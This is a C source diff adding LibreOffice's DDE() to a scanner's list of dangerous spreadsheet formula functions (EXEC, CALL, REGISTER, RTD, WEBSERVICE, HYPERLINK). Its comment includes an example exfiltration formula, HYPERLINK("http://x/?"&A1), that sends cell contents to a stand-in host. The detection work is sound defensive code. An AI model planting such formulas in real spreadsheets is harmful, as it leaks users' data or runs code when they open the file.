@@ -1703,14 +1703,16 @@ static bool formula_extref(const char *f)
 }
 
 /* Worksheet functions that run or fetch something: XLM calls, real-time data servers,
- * web requests, and links that open a web address built from the cells (a click sends
- * the sheet's data out: HYPERLINK("http://x/?"&A1)). The cell keeps its value. */
+ * web requests, LibreOffice's DDE() (which LibreOffice writes into the xlsx it converts
+ * and runs when it opens one), and links that open a web address built from the cells (a
+ * click sends the sheet's data out: HYPERLINK("http://x/?"&A1)). The cell keeps its
+ * value. */
 static const struct {
 	const char *name, *what;
 } formula_funcs[] = {
 	{"EXEC", "macro-sheet"},      {"CALL", "macro-sheet"}, {"REGISTER", "macro-sheet"},
 	{"REGISTER.ID", "macro-sheet"}, {"RTD", "dde"},        {"WEBSERVICE", "external-link"},
-	{"HYPERLINK", "external-link"},
+	{"HYPERLINK", "external-link"}, {"DDE", "dde"},
 };
 
 static bool ident_char(unsigned char c)
